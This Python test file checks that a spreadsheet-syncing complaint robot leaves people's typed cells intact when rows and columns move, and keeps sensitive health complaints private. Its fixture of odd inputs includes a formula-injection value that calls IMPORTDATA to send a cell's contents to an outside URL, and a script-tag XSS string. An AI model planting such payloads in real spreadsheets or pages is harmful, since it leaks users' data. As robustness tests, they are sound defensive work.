"""Whatever people type or move while the robot works: it stays theirs, and one cycle is enough."""

from pathlib import Path

import pytest

from automation.cases.events import JOURNAL
from automation.model.cells import CellError, Value
from automation.sheets.looks.intake import is_line
from automation.tables import intake
from automation.tables.intake import PEOPLE, ROBOT
from automation.tables.kendali import CATEGORIES, REGISTER, REPAIRS, SOURCES
from automation.tables.table import Column
from tests.conftest import Say
from tests.google_city import City
from tests.local_city import GOOD_ROW, LocalCity
from tests.lost_and_found import KENDALI, TITLES, LocalPlace, Place, laid_out
from tests.sheets_server.fixtures import Google
from tests.sheets_server.people import Person
from tests.town import NOTE, WORDS, peoples_cells

pytestmark = pytest.mark.sampled(6, tests=14)

TYPED = [column for column in PEOPLE if column.in_new_tabs]
ODD: dict[str, Value] = {
    "formula": '=IMPORTDATA("https://example.org/?"&A1)',
    "plus": "+62 812-0000-1021",
    "at": "@x {0} {nama} %s",
    "minus": "-1+1",
    "lines": "satu\r\ndua\rtiga\n\n\tempat",
    "control": "a\x01b\x08c\x1bde",
    "right to left": "\u202eabc\u202c \u0645\u0631\u062d\u0628\u0627 \u200f",
    "emoji": "\U0001f6a7\U0001f468\u200d\U0001f469\u200d\U0001f467 lampu mati total \U0001f6a7",
    "markup": "<script>alert(1)</script> &amp; </td>",
    "escaped": "_x000D_ _x0041_ lubang di jalan",
    "quote": "'0812",
    "spaces": "  \u00a0 lampu \u2003 mati  ",
    "next line": "satu\u0085dua\u2028tiga",
    "long": "got mampet " * 2900,
    "number": 81200001021.0,
    "fraction": 0.1,
    "yes": True,
    "error": CellError("#REF!"),
}


@pytest.fixture(params=["local", "google"])
def place(request: pytest.FixtureRequest, tmp_path: Path) -> Place:
    """One spreadsheet with the tab Gondrong."""
    return laid_out(request, tmp_path, {"Laporan": ("Gondrong",)})


def type_all(place: Place, rows: list[dict[str, Value]]) -> None:
    """Type complaints from the first row on."""
    cells = {
        (number, TITLES.index(str(heading))): value
        for number, row in enumerate(rows, start=1)
        for heading, value in {**GOOD_ROW, **row}.items()
    }
    if isinstance(place, LocalPlace):
        # What no xlsx file can hold does not get there, whoever types it.
        plain = {
            at: "".join(c for c in value if c >= " " or c in "\n\t") if isinstance(value, str) else value
            for at, value in cells.items()
        }
        place.city.put("Laporan", "Gondrong", plain)
    else:
        for (row, column), value in cells.items():
            place.put("Laporan", "Gondrong", row, {column: value})


def writes(place: Place) -> object:
    """Something that changes when anything is written."""
    return place.city.files() if isinstance(place, LocalPlace) else place.city.server.count("batchUpdate")  # type: ignore[attr-defined]


def test_whatever_stands_in_peoples_columns_the_second_cycle_writes_nothing(place: Place) -> None:
    rows: list[dict[str, Value]] = []
    for kind, value in ODD.items():
        rows.append({NOTE: kind, **{str(column): value for column in TYPED}})
        for column in (intake.NAME, intake.ADDRESS, intake.DESCRIPTION, intake.ASSIGNEE, intake.TOLD):
            row: dict[str, Value] = {NOTE: f"{kind} di {column}", column: value}
            if column is not intake.NAME:
                row[intake.NAME] = f"Warga {len(rows)}"
            rows.append({**row, intake.RT_RW: f"{len(rows):03}/001"})
    type_all(place, rows)
    mine = peoples_cells(place.rows("Laporan", "Gondrong"))
    assert place.run("sync") == 0
    written, after = writes(place), place.rows("Laporan", "Gondrong")
    assert peoples_cells(after) == mine
    assert sum(bool(row[0]) for row in after[1:]) > 40
    assert place.run("sync") == 0
    assert writes(place) == written


@pytest.fixture
def city(google: Google, tmp_path: Path) -> City:
    """One spreadsheet whose people keep a column of their own on the left, and two complaints without tickets."""
    return City.with_one(google, tmp_path, {"Gondrong": [["Urgensi", *TITLES]]}, begin)


def begin(city: City) -> None:
    for number, identity in enumerate(("yati", "amir"), start=1):
        city.type("Laporan", "Gondrong", identity, GOOD_ROW, name=f"Warga {identity}", phone=f"08120000102{number}")
        city.spreadsheets["Laporan"].set("Gondrong", number, 0, f"penting {identity}")


def people_of(person: Person, top: int = 0) -> list[dict[str, Value]]:
    """What people typed below the headings, by heading, whatever the columns' order."""
    titles, *rows = person.values("Gondrong")[top:]
    return [
        {str(title): value for title, value in zip(titles, row, strict=False) if title not in ROBOT and value}
        for row in rows
    ]


#: What people do to the tab Gondrong, by what it is called: each is a method of `Person` with its arguments.
MOVES: dict[str, list[tuple[str, tuple[int, ...]]]] = {
    "a column inserted at the left": [("insert_column", (0,))],
    "two columns inserted at the left": [("insert_column", (0, 2))],
    "a column inserted among the robot's": [("insert_column", (3,))],
    "a column of the robot deleted": [("delete_column", (2,))],
    "a row inserted among the complaints": [("insert_row", (2,))],
    "a row inserted above the headings": [("insert_row", (0,))],
    "two rows inserted above the headings": [("insert_row", (0, 2))],
    "a column and a row inserted": [("insert_column", (0,)), ("insert_row", (0,))],
    "columns inserted and rows sorted": [("insert_column", (0, 3)), ("sort", (11,))],
}


@pytest.mark.parametrize("how", MOVES)
def test_what_people_typed_is_theirs_again_after_columns_or_rows_moved_meanwhile(city: City, how: str) -> None:
    person = city.spreadsheets["Laporan"]
    before = people_of(person)

    def move() -> None:
        for method, arguments in MOVES[how]:
            getattr(person, method)("Gondrong", *arguments)

    city.server.before("batchUpdate", move)
    deleted = "deleted" in how
    assert city.run("sync") == int(deleted)  # a heading is missing: the tab waits for a person
    rows = person.values("Gondrong")
    top = next(number for number, row in enumerate(rows) if "Uraian" in row)
    assert sorted(map(str, filter(None, people_of(person, top)))) == sorted(map(str, before))
    assert [title for title in rows[top] if title and not is_line(title, WORDS)] == [
        title for title in ["Urgensi", *TITLES] if not (deleted and title == "Pemeriksaan")
    ]
    assert not any(value for row in rows[:top] for value in row)
    events = person.values(JOURNAL)[1:]
    assert [row[3] for row in events] == ["Diterbitkan"] * 2, "the robot took its own writing for people's"


def test_what_lands_above_the_headings_is_taken_away_where_they_are_farther_down_than_what_was_written(
    city: City,
) -> None:
    city.run("sync")
    person = city.spreadsheets["Laporan"]
    person.set("Gondrong", 1, person.values("Gondrong")[0].index(intake.PRIORITY), "Mendesak")
    city.server.before("batchUpdate", lambda: person.insert_row("Gondrong", 0, 3))
    assert city.run("sync") == 0
    rows = person.values("Gondrong")
    top = next(number for number, row in enumerate(rows) if "Uraian" in row)
    assert top == 3 and not any(value for row in rows[:top] for value in row)


def test_each_ticket_stands_beside_its_own_complaint_after_columns_moved(city: City) -> None:
    person = city.spreadsheets["Laporan"]
    city.server.before("batchUpdate", lambda: person.insert_column("Gondrong", 0, 2))
    city.run("sync")
    tickets = city.tickets("Laporan", "Gondrong")
    assert tickets == {"yati": "RR-260504-0001-3", "amir": "RR-260504-0002-1"}
    written = city.server.count("batchUpdate")
    city.run("sync")
    assert city.server.count("batchUpdate") == written


def test_a_cell_that_is_emptied_by_mistake_is_given_back(city: City) -> None:
    """The robot clears a cell of its own; meanwhile a column was inserted, and people's cell stands in its place."""
    person = city.spreadsheets["Laporan"]
    titles = person.values("Gondrong")[0]
    person.set("Gondrong", 1, titles.index(intake.LATENESS), "basi")
    person.set("Gondrong", 1, titles.index(intake.RESOLVED), "basi")
    before = people_of(person)
    city.server.before("batchUpdate", lambda: person.delete_column("Gondrong", 0))
    assert city.run("sync") == 0
    after = people_of(person)
    assert after == [{key: value for key, value in row.items() if key != "Urgensi"} for row in before]


def test_a_link_in_sumber_is_given_back_when_a_column_was_inserted_before_it(city: City) -> None:
    city.run("sync")
    before = city.kendali.values(SOURCES)[1][:2]
    city.type("Laporan", "Gondrong", "sri", GOOD_ROW, name="Bu Sri", phone="081200001023")
    # The first write of this cycle goes to the spreadsheet, the second to Kendali.
    city.server.before("batchUpdate", lambda: None)
    city.server.before("batchUpdate", lambda: city.kendali.insert_column(SOURCES, 0))
    assert city.run("sync") == 0
    titles, row = city.kendali.values(SOURCES)[:2]
    assert titles[:3] == [None, "Nama", "Tautan"] and row[:3] == [None, *before]
    assert row[4:] == [3, "Baik"]


def test_rows_of_sumber_sorted_meanwhile_end_with_their_own_health(city: City) -> None:
    city.kendali.set(SOURCES, 2, 0, "Aneh")
    city.kendali.set(SOURCES, 2, 1, "https://docs.google.com/spreadsheets/d/1TidakAdaTidakAdaTidakAda/edit")
    city.server.before("batchUpdate", lambda: None)
    city.server.before("batchUpdate", lambda: city.kendali.sort(SOURCES, 0))
    assert city.run("sync") == 1
    aneh, laporan = city.kendali.values(SOURCES)[1:3]
    assert (aneh[0], aneh[2:4]) == ("Aneh", [None, None]) and "1TidakAda" in str(aneh[4])
    assert (laporan[0], laporan[3:]) == ("Laporan", [2, "Baik"])


def test_notes_in_the_register_are_given_back_when_a_column_was_inserted(city: City) -> None:
    city.run("sync")
    width = len(city.kendali.values(REGISTER)[0])
    city.kendali.set(REGISTER, 0, width, "Catatan Fraksi")
    city.kendali.insert_column(REGISTER, 0)
    city.kendali.set(REGISTER, 0, 0, "Rapat")
    city.kendali.set(REGISTER, 1, 0, "bahas Senin")
    city.spreadsheets["Laporan"].set("Gondrong", 1, 17, "Diverifikasi")
    city.type("Laporan", "Gondrong", "sri", GOOD_ROW, name="Bu Sri", phone="081200001023")
    city.server.before("batchUpdate", lambda: None)
    city.server.before("batchUpdate", lambda: city.kendali.delete_column(REGISTER, 1))
    city.run("sync")
    rows = city.kendali.values(REGISTER)
    assert rows[0][0] == "Rapat" and rows[1][0] == "bahas Senin"
    assert "No. Tiket" in rows[0]
    assert city.kendali.values(REPAIRS)


def test_a_spreadsheet_that_is_never_still_waits_for_the_next_cycle(city: City, say: Say) -> None:
    person = city.spreadsheets["Laporan"]
    person.insert_row("Gondrong", 3, 3)
    for _ in range(30):
        city.server.before("batchUpdate", lambda: person.insert_row("Gondrong", 1))
    assert city.run("sync") == 1
    assert "sedang banyak yang mengubah" in say()
    city.server._before.clear()
    assert city.run("sync") == 0
    assert city.tickets("Laporan", "Gondrong")["amir"]


def test_a_description_of_emoji_fits_the_journal(tmp_path: Path) -> None:
    """xlsx counts an emoji as two characters."""
    city = LocalCity.lay_out(tmp_path, {"Laporan": ("Gondrong",)})
    city.type("Laporan", "Gondrong", {NOTE: "x", intake.DESCRIPTION: "lampu mati total " + "🚧" * 16370})
    assert city.run("sync") == 0


@pytest.mark.parametrize("place", ["google"], indirect=True)
@pytest.mark.parametrize(
    ("column", "value"), [(intake.NAME, "Ja\x7fln"), (intake.ASSIGNEE, "J\uffffx"), (intake.CATEGORY, "Jaln\uffffx")]
)
def test_characters_that_no_spreadsheet_keeps_are_written_once(place: Place, column: Column, value: str) -> None:
    type_all(place, [{NOTE: "x", str(column): value}])
    assert place.run("sync") == 0
    written = writes(place)
    assert place.run("sync") == 0
    assert writes(place) == written


def test_a_private_matter_that_gets_another_category_stays_so_until_somebody_says_that_it_may_be_told(
    place: Place,
) -> None:
    kind, secret = TITLES.index(intake.CATEGORY), len(TITLES)
    text = "kartu BPJS ibu saya mati, tidak bisa berobat ke puskesmas"
    type_all(place, [{NOTE: "a", intake.CATEGORY: "Kesehatan & BPJS", intake.DESCRIPTION: text}])
    place.put("Laporan", "Gondrong", 0, {secret: "Rahasia"})

    def told() -> tuple[str, str]:
        assert place.run("sync") == 0
        (row,), (entry,) = place.table("Laporan", "Gondrong"), place.register().values()
        return str(row[intake.CHECK] or ""), str(entry["Ringkasan"])

    assert "BPJS" not in told()[1]
    place.put("Laporan", "Gondrong", 1, {kind: "Lalu Lintas & Parkir"})
    for _ in range(2):
        check, shown = told()
        assert "tulis Tidak di kolom Rahasia" in check and "BPJS" not in shown
    place.put("Laporan", "Gondrong", 1, {secret: "Tidak"})
    check, shown = told()
    assert not check and "BPJS" in shown
    place.put("Laporan", "Gondrong", 1, {secret: None, TITLES.index(intake.DESCRIPTION): "lampu merah mati di simpang"})
    check, shown = told()
    assert not check and "ampu merah mati" in shown, "it hints at nothing any more"
    place.put("Laporan", "Gondrong", 1, {secret: "Ya"})
    assert "merah" not in told()[1], "whatever its category"


@pytest.mark.parametrize("renamed", ["Layanan Warga", None])
def test_so_it_stays_when_that_category_gets_another_name_or_is_deleted(place: Place, renamed: str | None) -> None:
    text = "kartu BPJS ibu saya mati, tidak bisa berobat ke puskesmas"
    type_all(place, [{NOTE: "a", intake.CATEGORY: "Kesehatan & BPJS", intake.DESCRIPTION: text}])
    assert place.run("sync") == 0
    place.put("Laporan", "Gondrong", 1, {TITLES.index(intake.CATEGORY): "Lalu Lintas & Parkir"})
    assert place.run("sync") == 0
    at = next(at for at, row in enumerate(place.rows(KENDALI, CATEGORIES)) if row[:1] == ["Kesehatan & BPJS"])
    place.put(KENDALI, CATEGORIES, at, {0: renamed} if renamed else dict.fromkeys(range(5)))
    for _ in range(3):
        place.run("sync")
        (entry,) = place.register().values()
        assert entry["Kategori"] == "Lalu Lintas & Parkir" and "BPJS" not in str(entry["Ringkasan"])


def test_so_it_stays_where_its_row_is_moved_to_another_spreadsheet(tmp_path: Path) -> None:
    city = LocalCity.lay_out(tmp_path, {"Barat": ("Gondrong",), "Timur": ("Gondrong",)})
    text = "kartu BPJS ibu saya mati, tidak bisa berobat ke puskesmas"
    city.type("Barat", "Gondrong", {NOTE: "a", intake.CATEGORY: "Kesehatan & BPJS", intake.DESCRIPTION: text})
    city.sync()
    row = [*city.rows("Barat", "Gondrong")[-1]]
    row[TITLES.index(intake.CATEGORY)] = "Lalu Lintas & Parkir"
    city.put_rows("Timur", "Gondrong", [row])
    city.edit("Barat", lambda book: book["Gondrong"].delete_rows(2))
    for _ in range(2):
        city.sync()
    assert list(city.tickets("Timur").values()) == [row[TITLES.index(intake.TICKET)]]
    assert "BPJS" not in str(city.register())


@pytest.mark.parametrize("column", [intake.PHONE, intake.NAME, intake.STATUS])
def test_a_column_that_moved_without_the_rest_of_its_rows_is_told_once(
    tmp_path: Path, say: Say, column: Column
) -> None:
    city = LocalCity.lay_out(tmp_path, {"Laporan": ("Gondrong",)})
    told = ("lampu mati", "got mampet", "sampah numpuk", "jalan bolong", "air keruh")
    people = [(f"Warga {at}", f"08120000{1000 + at}", words) for at, words in enumerate(told)]
    columns = (str(intake.NAME), str(intake.PHONE), str(intake.DESCRIPTION))
    statuses = ("Baru", "Selesai", "Diverifikasi", "Ditindaklanjuti", "Baru")
    typed = (
        {intake.STATUS: status} | dict(zip(columns, one, strict=True))
        for one, status in zip(people, statuses, strict=True)
    )
    city.take_in("Laporan", "Gondrong", *typed)
    at, cells = city.rows("Laporan", "Gondrong")[0].index(column), city.column("Laporan", "Gondrong", column)
    say()
    for moved in ([*cells[1:], None], cells):  # one was deleted, and those below moved up; and back
        city.put("Laporan", "Gondrong", {(row, at): cell for row, cell in enumerate(moved, start=1)})
        assert city.run("sync") == 1 and f"isi kolom {column} pindah dari baris lain" in say()
        assert city.run("sync") == 0
    if column is intake.STATUS:
        city.put("Laporan", "Gondrong", {(row, at): "Ditutup Tanpa Solusi" for row in range(1, 6)})  # not moved
        assert city.run("sync") == 0
        return
    city.put("Laporan", "Gondrong", {(1, at): cells[1], (2, at): cells[0]})  # two were typed into each other's row
    assert city.run("sync") == 0
